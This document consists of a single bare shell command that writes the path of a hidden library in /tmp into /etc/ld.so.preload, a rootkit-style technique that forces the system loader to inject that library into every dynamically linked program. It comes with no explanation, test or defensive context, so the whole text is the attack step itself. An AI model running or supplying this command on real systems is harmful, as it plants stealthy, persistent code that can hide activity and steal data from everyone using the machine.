echo /tmp/.x.so > /etc/ld.so.preload
